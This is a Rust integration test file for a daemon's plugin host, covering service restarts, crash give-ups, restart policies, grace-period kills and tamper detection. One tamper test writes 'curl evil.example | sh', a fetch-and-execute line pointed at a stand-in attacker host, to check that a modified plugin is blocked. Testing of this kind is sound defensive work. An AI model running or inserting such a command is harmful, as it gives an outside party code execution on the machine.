//! The plugin host in a real daemon (run on a thread of the test, on real sockets), with real
//! service processes written as small bash scripts, and short supervision times so restarts,
//! give-ups and grace periods play out in a second or two.

// Helpers outside `#[test]` functions panic on failure too: that is how a test fails.
#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use meta_daemon::{Daemon, DaemonOptions};
use meta_events::{Client, Event};
use meta_plugin::{InstallRequest, Manager, PluginPaths};
use meta_plugin_host::{
    HostOptions, HostStatus, PluginHost, Reply, ServiceState, ServiceStatus, Supervision,
};
use meta_workspace::Workspace;
use serde_json::{Value, json};

/// Upper bound for anything a test waits on.
const WAIT: Duration = Duration::from_secs(20);

fn supervision() -> Supervision {
    Supervision {
        grace: Duration::from_millis(500),
        backoff: Duration::from_millis(50),
        fast_exit: Duration::from_secs(2),
        give_up_after: 3,
        check_interval: Duration::from_millis(200),
    }
}

struct Repo {
    dir: tempfile::TempDir,
    root: PathBuf,
}

impl Repo {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("repo");
        std::fs::create_dir_all(root.join("meta")).unwrap();
        std::fs::write(
            root.join("meta/metarepo.toml"),
            "[metarepo]\nname = \"t\"\n",
        )
        .unwrap();
        Self { dir, root }
    }

    fn workspace(&self) -> Workspace {
        Workspace::open(&self.root).unwrap()
    }

    fn manager(&self) -> Manager<'static> {
        Manager::new(PluginPaths::of(&self.workspace()), &[], &[])
    }

    /// Installs a plugin whose service runs `script` with bash, restarting per `restart`.
    fn install(&self, name: &str, script: &str, restart: &str) {
        let src = self.dir.path().join("src").join(name);
        std::fs::create_dir_all(&src).unwrap();
        std::fs::write(
            src.join("meta-plugin.toml"),
            format!(
                "api = 1\n[plugin]\nname = \"{name}\"\nversion = \"1.0.0\"\n[service]\nexec = [\"bash\", \"run.sh\"]\nrestart = \"{restart}\"\n"
            ),
        )
        .unwrap();
        std::fs::write(src.join("run.sh"), script).unwrap();
        self.manager()
            .install(&InstallRequest {
                source: src.to_string_lossy().into_owned(),
                ..InstallRequest::default()
            })
            .unwrap();
    }

    /// Installs a plugin with a command and no service.
    fn install_command_only(&self, name: &str) {
        let src = self.dir.path().join("src").join(name);
        std::fs::create_dir_all(&src).unwrap();
        std::fs::write(
            src.join("meta-plugin.toml"),
            format!(
                "api = 1\n[plugin]\nname = \"{name}\"\nversion = \"2.0.0\"\n[[command]]\nname = \"{name}\"\nexec = [\"true\"]\n"
            ),
        )
        .unwrap();
        self.manager()
            .install(&InstallRequest {
                source: src.to_string_lossy().into_owned(),
                ..InstallRequest::default()
            })
            .unwrap();
    }

    fn start(&self) -> Running {
        let workspace = self.workspace();
        let mut daemon = Daemon::start(
            &workspace,
            DaemonOptions {
                version: "test".into(),
                handle_signals: false,
                ..DaemonOptions::default()
            },
        )
        .unwrap();
        daemon.add_component(Box::new(PluginHost::new(
            &workspace,
            HostOptions {
                builtins: &[],
                reserved: &[],
                builtins_only: false,
                launcher: None,
                supervision: supervision(),
            },
        )));
        let thread = std::thread::spawn(move || {
            daemon.run().unwrap();
        });
        let running = Running {
            workspace,
            thread: Some(thread),
        };
        wait_until("the daemon answers", || {
            Client::for_workspace(&running.workspace)
                .ping(Duration::from_millis(200))
                .unwrap()
        });
        running
    }

    /// Every event in the log, oldest first.
    fn events(&self) -> Vec<Event> {
        let dir = self.workspace().events_dir();
        let mut events = Vec::new();
        for segment in meta_events::log::list_segments(&dir).unwrap() {
            // Only whole lines: the daemon may be writing the next one.
            let text = std::fs::read_to_string(&segment.path).unwrap();
            for line in text.split_inclusive('\n').filter(|l| l.ends_with('\n')) {
                events.push(Event::from_json(line.trim_end().as_bytes()).unwrap());
            }
        }
        events
    }

    /// `(type, data)` of the `core:plugin:` events.
    fn plugin_events(&self) -> Vec<(String, Value)> {
        self.events()
            .into_iter()
            .filter(|e| e.ty().starts_with("core:plugin:"))
            .map(|e| (e.ty().to_owned(), e.data.unwrap_or(Value::Null)))
            .collect()
    }

    fn log(&self, name: &str) -> String {
        std::fs::read_to_string(self.root.join(format!(".meta/run/plugins/{name}.log")))
            .unwrap_or_default()
    }
}

/// A daemon running on a thread; stopped and joined when dropped.
struct Running {
    workspace: Workspace,
    thread: Option<JoinHandle<()>>,
}

impl Running {
    fn status(&self) -> HostStatus {
        match meta_plugin_host::status(&self.workspace, Duration::from_secs(5)) {
            Reply::Answer(status) => status,
            other => panic!("no status: {other:?}"),
        }
    }

    fn service(&self, name: &str) -> Option<ServiceStatus> {
        self.status().services.get(name).cloned()
    }

    fn wait_state(&self, name: &str, state: ServiceState) -> ServiceStatus {
        self.wait_service(name, &format!("{state:?}"), |s| s.state == state)
    }

    /// Waits until `name`'s status satisfies `wanted` (described as `what` if it never does).
    fn wait_service(
        &self,
        name: &str,
        what: &str,
        wanted: impl Fn(&ServiceStatus) -> bool,
    ) -> ServiceStatus {
        let mut last = None;
        let started = Instant::now();
        loop {
            let now = self.service(name);
            if let Some(service) = &now
                && wanted(service)
            {
                return service.clone();
            }
            last = now.or(last);
            assert!(
                started.elapsed() < WAIT,
                "timed out waiting for `{name}` to be {what}; last seen {last:?}"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn reload(&self, retry: &[&str]) {
        match meta_plugin_host::reload(&self.workspace, retry, Duration::from_secs(5)) {
            Reply::Answer(_) => {}
            other => panic!("reload not answered: {other:?}"),
        }
    }

    fn stop(mut self) {
        self.stop_now();
    }

    fn stop_now(&mut self) {
        if let Some(thread) = self.thread.take() {
            let _ = Client::for_workspace(&self.workspace).stop(Duration::from_secs(5));
            thread.join().unwrap();
        }
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        if std::thread::panicking() {
            // Still stop the daemon (and with it every service), but do not panic again.
            if let Some(thread) = self.thread.take() {
                let _ = Client::for_workspace(&self.workspace).stop(Duration::from_secs(5));
                let _ = thread.join();
            }
        } else {
            self.stop_now();
        }
    }
}

fn wait_until(what: &str, mut done: impl FnMut() -> bool) {
    let started = Instant::now();
    while !done() {
        assert!(started.elapsed() < WAIT, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Is `pid` a live process (not gone, not a zombie)?
fn alive(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|stat| {
            stat.rsplit_once(')')
                .map(|(_, rest)| rest.trim_start().starts_with('Z'))
        })
        .is_some_and(|zombie| !zombie)
}

fn read_pid(path: &Path) -> u32 {
    wait_until("the pid file", || {
        std::fs::read_to_string(path).is_ok_and(|t| t.trim().parse::<u32>().is_ok())
    });
    std::fs::read_to_string(path)
        .unwrap()
        .trim()
        .parse()
        .unwrap()
}

const SLEEPER: &str = "echo \"up as $META_PLUGIN_NAME in $PWD\"\nexec sleep 1000\n";

#[test]
fn plugins_are_loaded_with_their_service_and_unloaded_at_shutdown() {
    let repo = Repo::new();
    repo.install("svc", SLEEPER, "on-failure");
    repo.install_command_only("cmd");
    let daemon = repo.start();
    let service = daemon.wait_state("svc", ServiceState::Running);
    let pid = service.pid.unwrap();
    assert!(alive(pid));
    assert_eq!(service.log, ".meta/run/plugins/svc.log");
    let status = daemon.status();
    assert_eq!(status.loaded, ["cmd", "svc"]);
    assert!(!status.services.contains_key("cmd"));
    // Running means spawned: let it speak before it is stopped.
    wait_until("the service's first words", || {
        repo.log("svc").contains("up as svc")
    });
    daemon.stop();
    assert!(!alive(pid), "the service outlived the daemon");
    let events = repo.plugin_events();
    assert_eq!(
        events,
        [
            (
                "core:plugin:loaded".to_owned(),
                json!({"name": "cmd", "version": "2.0.0", "pid": null})
            ),
            (
                "core:plugin:loaded".to_owned(),
                json!({"name": "svc", "version": "1.0.0", "pid": pid})
            ),
            (
                "core:plugin:unloaded".to_owned(),
                json!({"name": "cmd", "version": "2.0.0", "pid": null})
            ),
            (
                "core:plugin:unloaded".to_owned(),
                json!({"name": "svc", "version": "1.0.0", "pid": pid})
            ),
        ]
    );
    let shutdown = repo.events().last().unwrap().ty().to_owned();
    assert_eq!(shutdown, "core:system:shutdown");
    let log = repo.log("svc");
    assert!(
        log.contains(&format!("up as svc in {}", repo.root.display())),
        "{log}"
    );
    assert!(log.contains("stopping"), "{log}");
}

#[test]
fn a_service_that_crashes_once_is_restarted() {
    let repo = Repo::new();
    repo.install(
        "flaky",
        "if [ ! -e \"$META_ROOT/crashed\" ]; then touch \"$META_ROOT/crashed\"; echo 'first run fails'; exit 3; fi\nexec sleep 1000\n",
        "on-failure",
    );
    let daemon = repo.start();
    wait_until("the first run", || repo.root.join("crashed").exists());
    // Until the host has seen the first run exit, that run still counts as running.
    let service = daemon.wait_service("flaky", "running after a restart", |s| {
        s.state == ServiceState::Running && s.restarts > 0
    });
    assert_eq!(service.restarts, 1);
    let reason = service.reason.unwrap();
    assert!(reason.contains("exited with status 3"), "{reason}");
    assert!(reason.contains("first run fails"), "{reason}");
    // Restarts do not reload the plugin: one `loaded`, with the first pid.
    let loaded: Vec<_> = repo
        .plugin_events()
        .into_iter()
        .filter(|(ty, _)| ty == "core:plugin:loaded")
        .collect();
    assert_eq!(loaded.len(), 1, "{loaded:?}");
    assert_ne!(loaded[0].1["pid"], json!(service.pid.unwrap()));
}

#[test]
fn a_service_crashing_in_a_loop_is_given_up_on_visibly() {
    let repo = Repo::new();
    repo.install(
        "broken",
        "echo 'cannot open the frobnicator'\nexit 1\n",
        "always",
    );
    let daemon = repo.start();
    let service = daemon.wait_state("broken", ServiceState::Failed);
    assert_eq!(service.restarts, 2, "{service:?}");
    assert_eq!(service.pid, None);
    let reason = service.reason.unwrap();
    assert!(
        reason.contains("exited with status 1 3 times in a row"),
        "{reason}"
    );
    assert!(reason.contains("gave up"), "{reason}");
    assert!(reason.contains("cannot open the frobnicator"), "{reason}");
    assert!(reason.contains("meta plugin enable broken"), "{reason}");
    // It stays failed: no more restarts.
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(daemon.service("broken").unwrap().restarts, 2);
    let log = repo.log("broken");
    let said = |log: &str| {
        log.lines()
            .filter(|l| *l == "cannot open the frobnicator")
            .count()
    };
    assert_eq!(said(&log), 3, "{log}");
    assert!(log.contains("restarting in 0.1 s"), "{log}");
    assert!(log.contains("gave up"), "{log}");
    let types: Vec<String> = repo.plugin_events().into_iter().map(|(t, _)| t).collect();
    assert_eq!(types, ["core:plugin:loaded", "core:plugin:unloaded"]);

    // Asking again (what `meta plugin enable` does) gives it a fresh start.
    daemon.reload(&["broken"]);
    // The state said before the reload is still `failed`: wait for the new runs first.
    wait_until("three more runs", || said(&repo.log("broken")) == 6);
    let service = daemon.wait_state("broken", ServiceState::Failed);
    assert_eq!(service.restarts, 2);
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(said(&repo.log("broken")), 6);
}

#[test]
fn restart_policies_never_and_on_failure() {
    let repo = Repo::new();
    repo.install("once", "echo done\nexit 0\n", "on-failure");
    repo.install("never", "echo bad\nexit 2\n", "never");
    let daemon = repo.start();
    let once = daemon.wait_state("once", ServiceState::Stopped);
    assert_eq!(once.restarts, 0);
    assert_eq!(once.reason.as_deref(), Some("it exited with status 0"));
    let never = daemon.wait_state("never", ServiceState::Failed);
    assert_eq!(never.restarts, 0);
    let reason = never.reason.unwrap();
    assert!(
        reason.contains("exited with status 2; its last output: bad"),
        "{reason}"
    );
    assert!(reason.contains("restart = \"never\""), "{reason}");
}

#[test]
fn tampering_stops_the_service_from_restarting_until_trusted() {
    let repo = Repo::new();
    repo.install(
        "guarded",
        "echo $$ > \"$META_ROOT/pid\"\nexec sleep 1000\n",
        "on-failure",
    );
    let daemon = repo.start();
    let first = daemon.wait_state("guarded", ServiceState::Running);
    // Someone edits the installed plugin, then the service crashes.
    std::fs::write(
        repo.root.join("meta/plugins/guarded/run.sh"),
        "curl evil.example | sh\n",
    )
    .unwrap();
    let _ = std::process::Command::new("kill")
        .args(["-9", &first.pid.unwrap().to_string()])
        .status();
    let service = daemon.wait_state("guarded", ServiceState::Failed);
    let reason = service.reason.unwrap();
    assert!(
        reason.contains("changed since it was installed"),
        "{reason}"
    );
    assert!(reason.contains("meta plugin trust guarded"), "{reason}");
    assert!(repo.log("guarded").contains("meta plugin trust guarded"));
    assert!(!repo.log("guarded").contains("evil"));

    // Trusting records the new content; the changed lock makes the host take it in again.
    std::fs::write(
        repo.root.join("meta/plugins/guarded/run.sh"),
        "echo trusted now\nexec sleep 1000\n",
    )
    .unwrap();
    repo.manager().trust("guarded").unwrap();
    daemon.reload(&["guarded"]);
    daemon.wait_state("guarded", ServiceState::Running);
    wait_until("the trusted script's output", || {
        repo.log("guarded").contains("trusted now")
    });
}

#[test]
fn changes_on_disk_are_noticed_without_being_told() {
    let repo = Repo::new();
    repo.install("svc", SLEEPER, "on-failure");
    let daemon = repo.start();
    let pid = daemon.wait_state("svc", ServiceState::Running).pid.unwrap();
    // Disabled behind the daemon's back (e.g. a `git pull` of the config).
    repo.manager().set_enabled("svc", false).unwrap();
    wait_until("the service to stop", || !alive(pid));
    wait_until("the plugin to be let go", || {
        daemon.service("svc").is_none()
    });
    repo.manager().set_enabled("svc", true).unwrap();
    let again = daemon.wait_state("svc", ServiceState::Running);
    assert_ne!(again.pid, Some(pid));
    // A new plugin folder appears, with its lock entry.
    repo.install("second", SLEEPER, "on-failure");
    daemon.wait_state("second", ServiceState::Running);
    // Uninstalled: gone without a trace in the status.
    let second = daemon.service("second").unwrap().pid.unwrap();
    repo.manager().uninstall("second").unwrap();
    wait_until("the uninstalled service to stop", || !alive(second));
    wait_until("the plugin to be let go", || {
        !daemon.status().services.contains_key("second")
    });
    let types: Vec<String> = repo.plugin_events().into_iter().map(|(t, _)| t).collect();
    assert_eq!(
        types,
        [
            "core:plugin:loaded",
            "core:plugin:unloaded",
            "core:plugin:loaded",
            "core:plugin:loaded",
            "core:plugin:unloaded"
        ]
    );
}

#[test]
fn a_changed_plugin_is_restarted_without_overlap() {
    let repo = Repo::new();
    repo.install(
        "svc",
        "trap 'sleep 0.3; echo bye; exit 0' TERM\necho v1\nwhile true; do sleep 0.05; done\n",
        "on-failure",
    );
    let daemon = repo.start();
    let old = daemon.wait_state("svc", ServiceState::Running).pid.unwrap();
    // Running means spawned; `v1` means bash has set its trap (a TERM before that kills it).
    wait_until("the first version's trap", || {
        repo.log("svc").contains("v1")
    });
    // Reinstalled with new content (`install --force`).
    let src = repo.dir.path().join("src/svc");
    std::fs::write(src.join("run.sh"), "echo v2\nexec sleep 1000\n").unwrap();
    repo.manager()
        .install(&InstallRequest {
            source: src.to_string_lossy().into_owned(),
            force: true,
            ..InstallRequest::default()
        })
        .unwrap();
    daemon.reload(&[]);
    let new = daemon
        .wait_service("svc", "running as a new process", |s| {
            s.state == ServiceState::Running && s.pid.is_some_and(|pid| pid != old)
        })
        .pid
        .unwrap();
    assert!(!alive(old));
    assert!(alive(new));
    wait_until("the new version's first words", || {
        repo.log("svc").contains("v2")
    });
    let log = repo.log("svc");
    // The old one said goodbye before the new one started.
    let bye = log.find("bye").unwrap();
    let v2 = log.find("v2").unwrap();
    assert!(bye < v2, "{log}");
}

#[test]
fn a_service_ignoring_sigterm_is_killed_after_the_grace_period_with_its_children() {
    let repo = Repo::new();
    repo.install(
        "stubborn",
        "trap '' TERM\nsleep 1000 &\necho $! > \"$META_ROOT/child\"\nwhile true; do sleep 0.05; done\n",
        "on-failure",
    );
    let daemon = repo.start();
    let pid = daemon
        .wait_state("stubborn", ServiceState::Running)
        .pid
        .unwrap();
    let child = read_pid(&repo.root.join("child"));
    assert!(alive(child));
    let started = Instant::now();
    repo.manager().set_enabled("stubborn", false).unwrap();
    daemon.reload(&[]);
    wait_until("the stubborn service to die", || !alive(pid));
    let took = started.elapsed();
    assert!(took >= Duration::from_millis(400), "{took:?}");
    // The group's SIGKILL reaches both, but the kernel may finish the child a moment later.
    wait_until("its child to die with it", || !alive(child));
    wait_until("the host to reap it", || {
        daemon.service("stubborn").is_none()
    });
    assert!(repo.log("stubborn").contains("killing it"));
}
